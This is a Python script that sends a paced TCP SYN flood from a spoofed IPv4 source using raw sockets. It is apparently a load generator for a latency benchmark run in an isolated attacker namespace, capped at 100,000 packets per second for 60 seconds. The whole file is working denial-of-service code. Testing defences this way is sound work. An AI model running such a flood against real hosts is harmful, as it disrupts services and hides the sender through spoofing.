#!/usr/bin/python3
# synpace.py: a bounded, paced TCP SYN flood from one spoofed IPv4 source, for bench_latency.sh
# (run inside the attacker namespace, as root). Pacing follows an absolute schedule: a sender that
# was descheduled catches up at once, so a loaded host still offers PPS packets per second
# (hping3 -i sleeps after every packet and fell to 200 pps of 1500 on a loaded 2-core host).
#   synpace.py SRC DST DPORT PPS SECONDS   -> prints the number of packets sent
# Sends at most PPS * SECONDS packets and stops after SECONDS (wall clock) in any case.
import os
import random
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True   # no __pycache__ in the source tree
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pktutil import csum  # noqa: E402


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 65535), 0,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    src, dst = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
    dport, pps, seconds = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    if not (0 < pps <= 100000 and 0 < seconds <= 60):
        sys.exit("synpace.py: PPS must be in (0, 100000] and SECONDS in (0, 60]")
    sk = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    total = int(pps * seconds)
    start = time.monotonic()
    sent = 0
    while sent < total:
        now = time.monotonic()
        if now - start > seconds:
            break
        due = min(total, int((now - start) * pps) + 1)
        while sent < due:
            pkt = syn(src, dst, 1024 + sent % 60000, dport, random.getrandbits(32))
            try:
                sk.sendto(pkt, (sys.argv[2], 0))
            except OSError:
                pass              # a full queue drops, as a flood would
            sent += 1
        time.sleep(max(0.0, start + sent / pps - time.monotonic()))
    print(sent, flush=True)


if __name__ == "__main__":
    main()
